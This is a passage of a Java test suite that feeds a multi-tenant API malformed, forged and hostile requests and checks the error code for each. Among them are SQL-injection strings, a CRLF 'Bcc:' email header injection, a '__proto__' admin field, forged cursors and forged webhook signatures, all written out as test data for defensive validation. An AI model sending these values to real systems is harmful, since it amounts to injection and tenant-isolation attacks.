            bodyCase(s, object ? "empty object" : "empty list", f.path() + (object ? " = {}" : " = []"),
                    with(s.base, f.path(), object ? obj() : list()), Set.of(f.empty()));
        }
        switch (f.type()) {
            case ENUM -> {
                String valid = String.valueOf(at(s.base, f.path()));
                Set<String> bad = new LinkedHashSet<>(List.of("NOT_A_VALUE", "", "0", "' OR 1=1 --", valid + " ",
                        "\u200B" + valid, valid + "\u0000", valid.replace('_', '-'), valid + valid));
                bad.remove(valid);
                for (String b : bad) {
                    bodyCase(s, "bad enum value", f.path() + " = " + b, with(s.base, f.path(), b),
                            s.webhook() ? Set.of("UNSUPPORTED_EVENT_TYPE", "MISSING_FIELD", "INVALID_TEXT")
                                    : Set.of("INVALID_FIELD", "INVALID_TEXT"));
                }
            }
            case EMAIL -> {
                for (String bad : NOT_AN_EMAIL) {
                    bodyCase(s, "bad value", f.path() + " = " + bad, with(s.base, f.path(), bad), Set.of("INVALID_EMAIL"));
                }
            }
            case DATETIME -> {
                for (String bad : s.webhook() ? NOT_A_DATE : concat(NOT_A_DATE, NOT_A_YEAR)) {
                    bodyCase(s, "bad value", f.path() + " = " + bad, with(s.base, f.path(), bad), invalid);
                }
            }
            case INT -> {
                for (long bad : List.of((long) f.low() - 1, (long) f.high() + 1, -999_999_999L, 999_999_999L)) {
                    bodyCase(s, "out of range", f.path() + " = " + bad, with(s.base, f.path(), bad), Set.of(f.outOfRange()));
                }
            }
            case ID -> ids(s, f);
            case TEXT -> controlCharacters(s, f);
            default -> { }
        }
    }

    /**
     * Text with a control character inside, or half a surrogate pair: refused in every text field. A line break is
     * refused in a line (a name, a subject: "\r\nBcc:" would inject an email header) and kept in a text.
     */
    private void controlCharacters(Spec s, Field f) {
        boolean multiline = f.path().equals("message") || f.path().endsWith(".value");
        List<String> bad = new ArrayList<>(List.of("a\u0000b", "a\u001b[31mb", "a\u007fb", "a\ud800b", "\u202Eevil"));
        if (!multiline) bad.addAll(List.of("Tax\r\nBcc: x@evil.example", "a\nb", "a\tb", "a\u2028b"));
        for (String b : bad) {
            bodyCase(s, "control character", f.path() + " = " + Json.write(b), with(s.base, f.path(), b), Set.of("INVALID_TEXT"));
        }
    }

    /** Where a body names a thing: unknown ids, another firm's ids, injections and key lookalikes. */
    private void ids(Spec s, Field f) {
        // a zero-width space alone is blank: a missing id
        Set<String> codes = new LinkedHashSet<>(List.of(f.notFound(), "INVALID_ID", "INVALID_TEXT", "MISSING_FIELD"));
        if (f.ref() != null) {
            String[] r = refs.get(f.ref());
            addTwin(s, "another firm's id", f.path(), r[0], r[1], id -> s.send(Json.write(with(s.base, f.path(), id))),
                    Set.of(f.notFound()));
            bodyCase(s, "unknown id", f.path(), with(s.base, f.path(), r[1]), Set.of(f.notFound()));
        }
        for (String bad : concat(BODY_INJECTIONS, keyLookalikes)) {
            bodyCase(s, "injection", f.path() + " = " + bad, with(s.base, f.path(), bad), codes);
        }
    }

    private void parameter(Spec s, Param p, String category) {
        String[] r = refs.get(p.ref());
        // a blank query parameter is a missing one
        Set<String> codes = p == s.query ? Set.of(p.notFound(), "INVALID_ID", "MISSING_FIELD") : Set.of(p.notFound(), "INVALID_ID");
        String body = s.base == null ? null : s.baseJson();
        addTwin(s, "another firm's id", p.name(), r[0], r[1], id -> s.send(s.path(p.name(), id), body), Set.of(p.notFound()));
        add(s, "unknown id", p.name(), () -> s.send(s.path(p.name(), r[1]), body), Set.of(p.notFound()));
        for (String bad : concat(INJECTIONS, keyLookalikes, EMPTYISH)) {
            add(s, category, p.name() + " = " + bad, () -> s.send(s.path(p.name(), bad), body), codes);
        }
    }

    private void query(Spec s) {
        String route = s.routeKey.substring(s.routeKey.indexOf(' ') + 1);
        Param q = s.query;
        Set<String> missing = Set.of("MISSING_FIELD");
        Map<String, String> queries = new LinkedHashMap<>();
        queries.put("no query string", "");
        queries.put("a bare ?", "?");
        queries.put(q.name() + " with no value", "?" + q.name());
        queries.put(q.name() + " empty", "?" + q.name() + "=");
        queries.put(q.name() + " blank", "?" + q.name() + "=%20%20");
        queries.put("the name in another case", "?" + q.name().toLowerCase() + "=" + encode(q.own()));
        queries.put("another name", "?account=" + encode(q.own()));
        for (var e : queries.entrySet()) {
            String path = route + e.getValue();
            add(s, "bad query string", e.getKey(), () -> s.send(path, null), missing);
        }
        Set<String> notFound = Set.of(q.notFound(), "INVALID_ID");
        Map<String, String> odd = new LinkedHashMap<>();
        odd.put(q.name() + " given twice", "?" + q.name() + "=" + encode(q.own()) + "&" + q.name() + "=" + encode(q.own()));
        odd.put(q.name() + " as an array", "?" + q.name() + "[]=" + encode(q.own()));
        odd.put(q.name() + " with an encoded &", "?" + q.name() + "=" + encode(q.own() + "&x=y"));
        for (var e : odd.entrySet()) {
            String path = route + e.getValue();
            add(s, "bad query string", e.getKey(), () -> s.send(path, null),
                    e.getKey().endsWith("as an array") ? missing : notFound);
        }
        parameter(s, q, "bad query string");
    }

    /**
     * A list's page: limits out of range or not whole numbers, cursors made up, edited, cut, of another list, of
     * another firm. Each list has at least two items, so a real cursor comes from a first page of one.
     */
    private void pages(Spec s) {
        String path = s.path();
        String sep = path.contains("?") ? "&" : "?";
        for (String limit : List.of("0", "201", "-1", "1.5", "1e2", "ten", "", "%20", "0x10", "1000000000000", "50&limit=0")) {
            add(s, "bad page", "limit=" + limit, () -> http("GET", path + sep + "limit=" + limit, Firm.OWNER, firm.firmId,
                    Map.of(), null), Set.of("INVALID_LIMIT"));
        }
        String own = firstCursor(path, Firm.OWNER, firm.firmId);
        String otherList = firstCursor(s.routeKey.equals("GET /members") ? "/pipelines" : "/members", Firm.OWNER, firm.firmId);
        // the same list in the other firm: its account's, job's or request's where the path names one
        String otherFirm = firstCursor(path.replace(firm.accountId, zeta.accountId).replace(moveJob, zeta.jobId)
                .replace(looseRequest, zeta.requestId), ForeignFirm.OWNER, zeta.firmId);
        Map<String, String> cursors = new LinkedHashMap<>();
        cursors.put("made up", "abc");
        cursors.put("empty", "");
        cursors.put("a dot alone", ".");
        cursors.put("edited", own.substring(0, own.length() - 2) + (own.endsWith("A") ? "BB" : "AA"));
        cursors.put("cut short", own.substring(0, own.length() / 2));
        cursors.put("its payload forged", Base64.getUrlEncoder().withoutPadding().encodeToString(
                "{\"PK\":\"FIRM#x\",\"SK\":\"MEMBER#a\"}".getBytes(StandardCharsets.UTF_8)) + own.substring(own.indexOf('.')));
        cursors.put("of another list", otherList);
        cursors.put("of another firm's same list", otherFirm);
        cursors.put("5000 characters", "x".repeat(5000));
        for (var c : cursors.entrySet()) {
            add(s, "bad page", "cursor " + c.getKey(), () -> http("GET", path + sep + "cursor=" + encode(c.getValue()),
                    Firm.OWNER, firm.firmId, Map.of(), null), Set.of("INVALID_CURSOR"));
        }
    }

    /** Lists of two or more in both firms, so that each list has a second page, and a cursor to go there. */
    private void secondOfEachList() {
        firm.ok("POST", "/request-templates", Map.of("name", "Second template", "subject", "S", "message", "M",
                "items", List.of(Map.of("kind", "QUESTION", "label", "Q"))));
        String o = ForeignFirm.OWNER;
        stack.ok(o, zeta.firmId, "POST", "/accounts", Map.of("name", "Zeta second client",
                "contacts", List.of(Map.of("name", "Zeta Contact", "email", "second@zeta.example"))));
        stack.ok(o, zeta.firmId, "POST", "/request-templates", Map.of("name", "Zeta second template", "subject", "S",
                "message", "M", "items", List.of(Map.of("kind", "QUESTION", "label", "Q"))));
        stack.ok(o, zeta.firmId, "POST", "/pipelines", Map.of("name", "Zeta second pipeline", "stages",
                List.of(Map.of("name", "Only"))));
        stack.ok(o, zeta.firmId, "POST", "/jobs", Map.of("accountId", zeta.accountId, "pipelineId", zeta.pipelineId,
                "title", "Zeta second job"));
    }

    /** The cursor of a first page of one item of {@code path}, as {@code user} of {@code firmId} is given it. */
    private String firstCursor(String path, String user, String firmId) {
        Response first = http("GET", path + (path.contains("?") ? "&" : "?") + "limit=1", user, firmId, Map.of(), null);
        assertThat(first.status()).as(path + " " + first.body()).isEqualTo(200);
        JsonNode body = first.json();
        String next = body.field("nextCursor").filter(n -> !n.isNull()).or(() -> body.field("jobsNextCursor")
                .filter(n -> !n.isNull())).map(JsonNode::asString).orElse(null);
        assertThat(next).as("a second page of " + path + " for " + user).isNotNull();
        return next;
    }

    private void unknownFields(Spec s) {
        bodyCase(s, "unknown field", "nmae", with(s.base, "nmae", "typo"), Set.of("UNKNOWN_FIELD"));
        bodyCase(s, "unknown field", "__proto__", with(s.base, "__proto__", obj("admin", true)), Set.of("UNKNOWN_FIELD"));
        bodyCase(s, "unknown field", "firmId", with(s.base, "firmId", zeta.firmId), Set.of("UNKNOWN_FIELD"));
        for (Field f : s.fields) {
            if (f.type() == Type.OBJECTS) {
                bodyCase(s, "unknown field", f.path() + "[0].nmae", with(s.base, f.path() + "[0].nmae", "typo"),
                        Set.of("UNKNOWN_FIELD"));
            }
            if (f.type() == Type.OBJECT) {
                bodyCase(s, "unknown field", f.path() + ".nmae", with(s.base, f.path() + ".nmae", "typo"),
                        Set.of("UNKNOWN_FIELD"));
            }
        }
    }

    private void idempotencyKeys(Spec s) {
        String body = s.baseJson();
        for (String key : List.of("", "   ", "k".repeat(201))) {
            add(s, "bad header", "Idempotency-Key of " + key.length() + " characters" + (key.isBlank() ? ", blank" : ""),
                    () -> http(s.method(), s.path(), Firm.OWNER, firm.firmId, Map.of("idempotency-key", key), body),
                    Set.of("INVALID_IDEMPOTENCY_KEY"));
        }
    }

    /** Who the caller is: no token, a user id that cannot be one, no firm, a firm the caller is not in. */
    private void identities(Spec s) {
        String body = s.base == null ? null : s.baseJson();
        String path = s.path();
        add(s, "identity", "no token", () -> http(s.method(), path, null, firm.firmId, Map.of(), body), null);
        for (String sub : List.of("bad user", "FIRM#x#JOB#y", "' OR 1=1 --", "u".repeat(129), "\u202Eowner", "owner\u0000")) {
            add(s, "identity", "sub = " + sub, () -> http(s.method(), path, sub, firm.firmId, Map.of(), body),
                    Set.of("UNAUTHENTICATED"));
        }
        if (s.routeKey.equals("POST /firms")) return; // needs no firm: the caller becomes the owner of a new one
        add(s, "identity", "no firmId claim", () -> http(s.method(), path, Firm.OWNER, null, Map.of(), body), Set.of("NO_FIRM"));
        for (String claim : List.of("FIRM#" + firm.firmId, "' OR 1=1 --", "x".repeat(129))) {
            add(s, "identity", "firmId claim = " + claim, () -> http(s.method(), path, Firm.OWNER, claim, Map.of(), body),
                    Set.of("NO_FIRM"));
        }
        add(s, "identity", "firmId claim of another firm", () -> http(s.method(), path, Firm.OWNER, zeta.firmId, Map.of(), body),
                Set.of("NOT_A_MEMBER"));
        add(s, "identity", "firmId claim of no firm", () -> http(s.method(), path, Firm.OWNER, "firm_unknown", Map.of(), body),
                Set.of("NOT_A_MEMBER"));
        add(s, "identity", "a user who is not a member",
                () -> http(s.method(), path, "user-stranger", firm.firmId, Map.of(), body), Set.of("NOT_A_MEMBER"));
        add(s, "identity", "a member of another firm",
                () -> http(s.method(), path, ForeignFirm.OWNER, firm.firmId, Map.of(), body), Set.of("NOT_A_MEMBER"));
    }

    private void signatures(Spec s) {
        String body = s.baseJson();
        String other = Json.write(submission("evt-corpus", firm.firmId, webhookRequest, "Bank statements", "other.pdf"));
        Set<String> invalid = Set.of("INVALID_SIGNATURE");
        Set<String> stale = Set.of("STALE_SIGNATURE");
        add(s, "signature", "none", () -> stack.webhook(body, null), Set.of("MISSING_SIGNATURE"));
        add(s, "signature", "empty header", () -> stack.webhook(body, ""), Set.of("MISSING_SIGNATURE"));
        add(s, "signature", "blank header", () -> stack.webhook(body, "   "), Set.of("MISSING_SIGNATURE"));
        add(s, "signature", "forged: zeros", () -> stack.webhook(body, "t=" + now() + ",v1=" + "0".repeat(64)), invalid);
        add(s, "signature", "forged: another secret",
                () -> stack.webhook(body, PortalSignature.header("not-the-secret", now(), body)), invalid);
        add(s, "signature", "of another body", () -> stack.webhook(body, PortalSignature.header(Stack.SECRET, now(), other)), invalid);
        add(s, "signature", "of the body with a trailing newline",
                () -> stack.webhook(body, PortalSignature.header(Stack.SECRET, now(), body + "\n")), invalid);
        add(s, "signature", "of the body reformatted",
                () -> stack.webhook(body, PortalSignature.header(Stack.SECRET, now(), body.replace(",", ", "))), invalid);
        add(s, "signature", "signed at t, header says t+1", () -> {
            long t = now();
            return stack.webhook(body, "t=" + (t + 1) + ",v1=" + PortalSignature.sign(Stack.SECRET, t, body));
        }, invalid);
        add(s, "signature", "truncated v1", () -> stack.webhook(body, sign(body).substring(0, sign(body).length() - 2)), invalid);
        add(s, "signature", "v1 with one more character", () -> stack.webhook(body, sign(body) + "0"), invalid);
        // +310 rather than +301: the second that ticks between signing and checking must not bring it back within 300 s
        for (long offset : List.of(-301L, -3600L, -86_400L * 365, 310L, 3600L, 86_400L * 365)) {
            add(s, "signature", (offset < 0 ? "stale by " : "future by ") + Math.abs(offset) + " s",
                    () -> stack.webhook(body, PortalSignature.header(Stack.SECRET, now() + offset, body)), stale);
        }
        add(s, "signature", "t = 0", () -> stack.webhook(body, PortalSignature.header(Stack.SECRET, 0, body)), stale);
        Map<String, java.util.function.Function<String, String>> malformed = new LinkedHashMap<>();
        malformed.put("no t", sig -> sig.substring(sig.indexOf(',') + 1));
        malformed.put("no v1", sig -> sig.substring(0, sig.indexOf(',')));
        malformed.put("empty v1", sig -> sig.substring(0, sig.indexOf(',')) + ",v1=");
        malformed.put("t not a number", sig -> sig.replaceFirst("t=\\d+", "t=soon"));
        malformed.put("t negative", sig -> sig.replaceFirst("t=\\d+", "t=-1"));
        malformed.put("t with a fraction", sig -> sig.replaceFirst("t=(\\d+)", "t=$1.5"));
        malformed.put("t overflowing a long", sig -> sig.replaceFirst("t=\\d+", "t=99999999999999999999"));
        malformed.put("semicolon separated", sig -> sig.replace(',', ';'));
        malformed.put("space separated", sig -> sig.replace(',', ' '));
        malformed.put("upper-case names", sig -> sig.replace("t=", "T=").replace("v1=", "V1="));
        malformed.put("v0 instead of v1", sig -> sig.replace("v1=", "v0="));
        malformed.put("sha256= style", sig -> "sha256=" + sig.substring(sig.indexOf("v1=") + 3));
        malformed.put("the bare hex", sig -> sig.substring(sig.indexOf("v1=") + 3));
        malformed.put("v1 in base64", sig -> sig.substring(0, sig.indexOf("v1=") + 3)
                + Base64.getEncoder().encodeToString(java.util.HexFormat.of().parseHex(sig.substring(sig.indexOf("v1=") + 3))));
        malformed.put("10,000 v1 values", sig -> sig.substring(0, sig.indexOf(',')) + ",v1=00".repeat(10_000));
        malformed.put("control characters", sig -> sig.replace(",", ",\u0000\n"));
        for (var e : malformed.entrySet()) {
            add(s, "malformed signature header", e.getKey(), () -> stack.webhook(body, e.getValue().apply(sign(body))), invalid);
        }
        // another firm: a valid signature over a request of one firm named with the id of another
        String foreignFirm = Json.write(with(s.base, "firmId", zeta.firmId));
        add(s, "another firm", "our request under the other firm's id", () -> stack.webhook(foreignFirm, sign(foreignFirm)),
                Set.of("REQUEST_NOT_FOUND"));
        String foreignRequest = Json.write(with(s.base, "requestId", zeta.requestId));
        add(s, "another firm", "the other firm's request under our id", () -> stack.webhook(foreignRequest, sign(foreignRequest)),
                Set.of("REQUEST_NOT_FOUND"));
        // the contract's 409s
        String cancelled = Json.write(with(s.base, "requestId", cancelledRequest));
        add(s, "refused by state", "a cancelled request", () -> stack.webhook(cancelled, sign(cancelled)), Set.of("REQUEST_CANCELLED"));
        String again = Json.write(with(with(s.base, "requestId", submittedRequest), "eventId", "evt-another"));
        add(s, "refused by state", "a request submitted under another eventId", () -> stack.webhook(again, sign(again)),
                Set.of("REQUEST_ALREADY_SUBMITTED"));
        // replays of the recorded event: 200 duplicate, whatever the body says, and nothing changes
        @SuppressWarnings("unchecked")
        Map<String, Object> recorded = (Map<String, Object>) plain(Json.parse(submittedBody));
        Map<String, String> replays = new LinkedHashMap<>();
        replays.put("the same body, signed again", submittedBody);
        replays.put("other answers", Json.write(with(recorded, "answers", list(obj("label", "Bank statements", "value", "forged.pdf")))));
        replays.put("no answers", Json.write(with(recorded, "answers", list())));
        replays.put("another submittedAt", Json.write(with(recorded, "submittedAt", "2020-01-01T00:00:00Z")));
        replays.put("an unknown field", Json.write(with(recorded, "status", "PENDING")));
        replays.put("the fields in another order", Json.write(reversed(recorded)));
        for (var e : replays.entrySet()) {
            String body2 = e.getValue();
            addDuplicate(s, e.getKey(), () -> stack.webhook(body2, sign(body2)));
        }
    }

    /** The domain's limits and rules, each broken once. */
    private void rules(Map<String, Spec> byName) {
        Spec pipelines = byName.get("POST /pipelines");
        List<Object> stages31 = new ArrayList<>();
        for (int i = 0; i < 31; i++) stages31.add(obj("name", "S" + i));
        bodyCase(pipelines, "limit", "31 stages", with(pipelines.base, "stages", stages31), Set.of("TOO_MANY_STAGES"));
        List<Object> automations11 = new ArrayList<>();
        for (int i = 0; i < 11; i++) automations11.add(obj("type", "SEND_CLIENT_REQUEST", "templateId", firm.templateId));
        bodyCase(pipelines, "limit", "11 automations on a stage", with(pipelines.base, "stages[0].automations", automations11),
                Set.of("TOO_MANY_AUTOMATIONS"));
        bodyCase(pipelines, "rule", "automove on the last stage", with(pipelines.base, "stages[1].automove", true),
                Set.of("AUTOMOVE_ON_LAST_STAGE"));
        Spec accounts = byName.get("POST /accounts");
        List<Object> contacts21 = new ArrayList<>();
        for (int i = 0; i < 21; i++) contacts21.add(obj("name", "C" + i, "email", "c" + i + "@corpus.example"));
        bodyCase(accounts, "limit", "21 contacts", with(accounts.base, "contacts", contacts21), Set.of("TOO_MANY_CONTACTS"));
        Spec templates = byName.get("POST /request-templates");
        List<Object> items51 = new ArrayList<>();
        for (int i = 0; i < 51; i++) items51.add(obj("kind", "QUESTION", "label", "Q" + i));
        bodyCase(templates, "limit", "51 items", with(templates.base, "items", items51), Set.of("TOO_MANY_ITEMS"));
        Spec written = byName.get("POST /client-requests (written)");
        bodyCase(written, "limit", "51 items", with(written.base, "items", items51), Set.of("TOO_MANY_ITEMS"));
        List<Object> jobs51 = new ArrayList<>();
        for (int i = 0; i < 51; i++) jobs51.add("job_corpus" + i);
        bodyCase(written, "limit", "51 jobIds", with(written.base, "jobIds", jobs51), Set.of("TOO_MANY_JOBS"));
        Spec setJobs = byName.get("PUT /client-requests/{requestId}/jobs");
        bodyCase(setJobs, "limit", "51 jobIds", with(setJobs.base, "jobIds", jobs51), Set.of("TOO_MANY_JOBS"));
        bodyCase(setJobs, "rule", "a job of another account", with(setJobs.base, "jobIds", list(otherAccountJob)),
                Set.of("ACCOUNT_MISMATCH"));
        Spec fromTemplate = byName.get("POST /client-requests (from a template)");
        bodyCase(fromTemplate, "rule", "a job of another account", with(fromTemplate.base, "jobIds", list(otherAccountJob)),
                Set.of("ACCOUNT_MISMATCH"));
        bodyCase(fromTemplate, "rule", "templateId and written content", with(fromTemplate.base, "title", "T"),
                Set.of("TEMPLATE_OR_CONTENT"));
        bodyCase(fromTemplate, "rule", "neither templateId nor content", with(fromTemplate.base, "templateId", REMOVE),
                Set.of("TEMPLATE_OR_CONTENT"));
        Spec link = byName.get("POST /jobs/{jobId}/client-requests (link)");
        bodyCase(link, "rule", "a request of another account", with(link.base, "requestId", otherAccountRequest),
                Set.of("ACCOUNT_MISMATCH"));
        bodyCase(link, "rule", "requestId and templateId", with(link.base, "templateId", firm.templateId), Set.of("UNKNOWN_FIELD"));
        bodyCase(link, "rule", "an empty body", obj(), Set.of("TEMPLATE_OR_CONTENT"));
        Spec move = byName.get("POST /jobs/{jobId}/move");
        bodyCase(move, "rule", "to the stage it is in", with(move.base, "toStageId", firm.intake), Set.of("SAME_STAGE"));
        bodyCase(move, "rule", "a stage of another pipeline of the firm", with(move.base, "toStageId", patchFirst),
                Set.of("UNKNOWN_STAGE"));
        add(move, "rule", "unfinished requests and no decision",
                () -> http("POST", "/jobs/" + linkedJob + "/move", Firm.OWNER, firm.firmId, Map.of(),
                        Json.write(obj("toStageId", firm.review))), Set.of("UNFINISHED_REQUESTS"));
        Spec jobs = byName.get("POST /jobs");
        bodyCase(jobs, "rule", "a stage of another pipeline of the firm", with(jobs.base, "stageId", patchFirst),
                Set.of("UNKNOWN_STAGE"));
        Spec patch = byName.get("PATCH /pipelines/{pipelineId}/stages/{stageId}");
        add(patch, "rule", "automove on the last stage", () -> http("PATCH", "/pipelines/" + patchPipeline + "/stages/" + patchLast,
                Firm.OWNER, firm.firmId, Map.of(), Json.write(obj("automove", true))), Set.of("AUTOMOVE_ON_LAST_STAGE"));
        add(patch, "rule", "a stage of another pipeline of the firm", () -> http("PATCH", "/pipelines/" + patchPipeline
                + "/stages/" + firm.intake, Firm.OWNER, firm.firmId, Map.of(), Json.write(obj("name", "X"))), Set.of("STAGE_NOT_FOUND"));
        bodyCase(patch, "limit", "11 automations", with(patch.base, "automations", automations11), Set.of("TOO_MANY_AUTOMATIONS"));
        Spec members = byName.get("POST /members");
        bodyCase(members, "rule", "an existing member with another role", obj("userId", employee, "role", "ADMIN"),
                Set.of("MEMBER_EXISTS"));
        bodyCase(members, "rule", "rights in lower case", with(members.base, "rights", list("view_all_accounts")),
                Set.of("INVALID_FIELD"));
        Spec changeMember = byName.get("PATCH /members/{userId}");
        bodyCase(changeMember, "rule", "neither role nor rights", obj(), Set.of("MISSING_FIELD"));
        add(changeMember, "rule", "the owner changing their own role", () -> http("PATCH", "/members/" + Firm.OWNER,
                Firm.OWNER, firm.firmId, Map.of(), Json.write(obj("role", "ADMIN"))), Set.of("OWN_MEMBERSHIP"));
        add(changeMember, "rule", "an employee changing a member", () -> http("PATCH", "/members/" + Firm.OWNER,
                employee, firm.firmId, Map.of(), Json.write(obj("role", "EMPLOYEE"))), Set.of("FORBIDDEN"));
        Spec removeMember = byName.get("DELETE /members/{userId}");
        add(removeMember, "rule", "the owner removing themselves", () -> http("DELETE", "/members/" + Firm.OWNER,
                Firm.OWNER, firm.firmId, Map.of(), null), Set.of("OWNER_NOT_REMOVABLE"));
        add(removeMember, "rule", "an employee removing themselves", () -> http("DELETE", "/members/" + employee,
                employee, firm.firmId, Map.of(), null), Set.of("FORBIDDEN"));
        Spec unlink = byName.get("DELETE /jobs/{jobId}/client-requests/{requestId}");
        add(unlink, "rule", "the job of another firm, our request", () -> http("DELETE", "/jobs/" + zeta.jobId
                + "/client-requests/" + linkedRequest, Firm.OWNER, firm.firmId, Map.of(), null), Set.of("JOB_NOT_FOUND"));

        // tags
        List<Object> tags21 = new ArrayList<>();
        for (int i = 0; i < 21; i++) tags21.add("tag-" + i);
        Spec changeAccount = byName.get("PATCH /accounts/{accountId}");
        bodyCase(changeAccount, "rule", "nothing to change", obj(), Set.of("MISSING_FIELD"));
        bodyCase(changeAccount, "limit", "21 tags", with(changeAccount.base, "tags", tags21), Set.of("TOO_MANY_TAGS"));
        bodyCase(changeAccount, "limit", "21 contacts", with(changeAccount.base, "contacts", contacts21), Set.of("TOO_MANY_CONTACTS"));
        add(changeAccount, "rule", "an employee changing an account", () -> http("PATCH", "/accounts/" + otherAccount,
                employee, firm.firmId, Map.of(), changeAccount.baseJson()), Set.of("FORBIDDEN"));
        bodyCase(accounts, "limit", "21 tags", with(accounts.base, "tags", tags21), Set.of("TOO_MANY_TAGS"));
        for (String padded : List.of(" vip", "vip ", "  ")) {
            bodyCase(accounts, "rule", "a blank tag, or one with a space around it: " + Json.write(padded), with(accounts.base, "tags", list(padded)),
                    Set.of("INVALID_TAG"));
        }
        bodyCase(pipelines, "limit", "21 tags in an automation's conditions",
                with(pipelines.base, "stages[0].automations[0].conditions.accountTags", tags21), Set.of("TOO_MANY_TAGS"));
        bodyCase(patch, "rule", "a tag with a space around it in an automation's conditions",
                with(patch.base, "automations[0].conditions.accountTags", list(" vip")), Set.of("INVALID_TAG"));

        // due dates
        String past = Instant.now().minus(java.time.Duration.ofDays(1)).toString();
        Spec writtenOnCard = byName.get("POST /jobs/{jobId}/client-requests (written)");
        Spec templateOnCard = byName.get("POST /jobs/{jobId}/client-requests (from a template)");
        for (Spec create : List.of(written, writtenOnCard)) {
            bodyCase(create, "rule", "dueAt in the past", with(create.base, "dueAt", past), Set.of("INVALID_DUE_DATE"));
            bodyCase(create, "rule", "dueAt and dueInDays", with(create.base, "dueInDays", 3), Set.of("INVALID_DUE_DATE"));
        }
        for (Spec create : List.of(fromTemplate, templateOnCard)) {
            bodyCase(create, "rule", "dueInDays and dueAt", with(create.base, "dueAt", aheadOfNow()), Set.of("INVALID_DUE_DATE"));
        }
        bodyCase(link, "rule", "requestId and reminders", with(link.base, "reminders", obj("everyDays", 3, "times", 1)),
                Set.of("UNKNOWN_FIELD"));

        // a request's life after it is sent: refused by its state, nothing written
        Spec change = byName.get("PATCH /client-requests/{requestId}");
        bodyCase(change, "rule", "neither reminders nor dueAt", obj(), Set.of("MISSING_FIELD"));
        bodyCase(change, "rule", "reminders: null and nothing else", obj("reminders", null), Set.of("MISSING_FIELD"));
        Spec resend = byName.get("POST /client-requests/{requestId}/resend");
        Spec reopen = byName.get("POST /client-requests/{requestId}/reopen");
        for (String[] finished : List.of(new String[] {"a submitted request", submittedRequest},
                new String[] {"a cancelled request", cancelledRequest})) {
            add(change, "refused by state", finished[0], () -> http("PATCH", "/client-requests/" + finished[1], Firm.OWNER,
                    firm.firmId, Map.of(), change.baseJson()), Set.of("REQUEST_NOT_UNFINISHED"));
            add(resend, "refused by state", finished[0], () -> http("POST", "/client-requests/" + finished[1] + "/resend",
                    Firm.OWNER, firm.firmId, Map.of(), null), Set.of("REQUEST_NOT_UNFINISHED"));
        }
        for (String[] notSubmitted : List.of(new String[] {"a pending request", looseRequest},
                new String[] {"a cancelled request", cancelledRequest})) {
            add(reopen, "refused by state", notSubmitted[0], () -> http("POST", "/client-requests/" + notSubmitted[1]
                    + "/reopen", Firm.OWNER, firm.firmId, Map.of(), null), Set.of("REQUEST_NOT_SUBMITTED"));
        }
        add(reopen, "rule", "a note over 5000 characters after trimming is still checked before the state",
                () -> http("POST", "/client-requests/" + looseRequest + "/reopen", Firm.OWNER, firm.firmId, Map.of(),
                        Json.write(obj("message", "  " + "x".repeat(5001) + "  "))), Set.of("FIELD_TOO_LONG"));

        // archived jobs
        Spec archive = byName.get("POST /jobs/{jobId}/archive");
        Spec unarchive = byName.get("POST /jobs/{jobId}/unarchive");
        add(archive, "refused by state", "an archived job", () -> http("POST", "/jobs/" + archivedJob + "/archive", Firm.OWNER,
                firm.firmId, Map.of(), null), Set.of("JOB_ARCHIVED"));
        add(unarchive, "refused by state", "a job that is not archived", () -> http("POST", "/jobs/" + moveJob + "/unarchive",
                Firm.OWNER, firm.firmId, Map.of(), null), Set.of("JOB_NOT_ARCHIVED"));
        add(move, "refused by state", "an archived job", () -> http("POST", "/jobs/" + archivedJob + "/move", Firm.OWNER,
                firm.firmId, Map.of(), Json.write(obj("toStageId", review()))), Set.of("JOB_ARCHIVED"));
        Spec board = byName.get("GET /pipelines/{pipelineId}/jobs");
        for (String flag : List.of("yes", "1", "TRUE", "", "true&includeArchived=false")) {
            add(board, "bad query string", "includeArchived=" + flag, () -> http("GET", "/pipelines/" + firm.pipelineId
                    + "/jobs?includeArchived=" + flag, Firm.OWNER, firm.firmId, Map.of(), null), Set.of("INVALID_FIELD"));
        }
        // the pagination of both lists: a limit out of 1..200 or not a whole number, a cursor no page gave
        Spec list = byName.get("GET /client-requests");
        for (String limit : List.of("0", "201", "-1", "1.5", "ten", "", "0050", "1e2")) {
            add(board, "bad query string", "limit=" + limit, () -> http("GET", "/pipelines/" + firm.pipelineId
                    + "/jobs?limit=" + limit, Firm.OWNER, firm.firmId, Map.of(), null), Set.of("INVALID_LIMIT"));
            add(board, "bad query string", "stage page, limit=" + limit, () -> http("GET", "/pipelines/" + firm.pipelineId
                    + "/jobs?stageId=" + firm.intake + "&limit=" + limit, Firm.OWNER, firm.firmId, Map.of(), null),
                    Set.of("INVALID_LIMIT"));
            add(list, "bad query string", "limit=" + limit, () -> http("GET", "/client-requests?accountId=" + firm.accountId
                    + "&limit=" + limit, Firm.OWNER, firm.firmId, Map.of(), null), Set.of("INVALID_LIMIT"));
        }
        for (String cursor : List.of("", "x", "a.b", ".", "eyJQSyI6IngifQ.AAAA", "%00", "x".repeat(5000))) {
            add(board, "bad query string", "cursor=" + cursor, () -> http("GET", "/pipelines/" + firm.pipelineId
                    + "/jobs?stageId=" + firm.intake + "&cursor=" + encode(cursor), Firm.OWNER, firm.firmId, Map.of(), null),
                    Set.of("INVALID_CURSOR"));
            add(list, "bad query string", "cursor=" + cursor, () -> http("GET", "/client-requests?accountId=" + firm.accountId
                    + "&cursor=" + encode(cursor), Firm.OWNER, firm.firmId, Map.of(), null), Set.of("INVALID_CURSOR"));
        }
    }

    private String review() { return firm.review; }

    private void bodyCase(Spec s, String category, String label, Map<String, Object> body, Set<String> codes) {
        String json = Json.write(body);
        add(s, category, label, () -> s.send(json), codes);
    }

    // ------------------------------------------------------------------------------------------------------
    // setup, and the tests
    // ------------------------------------------------------------------------------------------------------

    @BeforeAll
    void setUp() {
        stack = new Stack();
        routes = new Routes(Template.load(Stack.TEMPLATE));
        firm = new Firm(stack);
        zeta = new ForeignFirm(stack);
        employee = "user-employee";
        firm.ok("POST", "/members", Map.of("userId", employee, "role", "EMPLOYEE"));
        secondOfEachList();
        moveJob = firm.newJob("Move me");
        linkedJob = firm.newJob("Linked");
        linkedRequest = firm.request("Linked request", linkedJob);
        looseRequest = firm.request("Loose request");
        webhookRequest = firm.request("Webhook request");
        submittedRequest = firm.request("Submitted request");
        cancelledRequest = firm.request("Cancelled request");
        firm.ok("POST", "/jobs/" + firm.newJob("Cancelling") + "/client-requests", Map.of("requestId", cancelledRequest));
        otherAccount = text(firm.ok("POST", "/accounts", Map.of("name", "Second account",
                "contacts", List.of(Map.of("name", "S", "email", "s@second.example")))), "accountId");
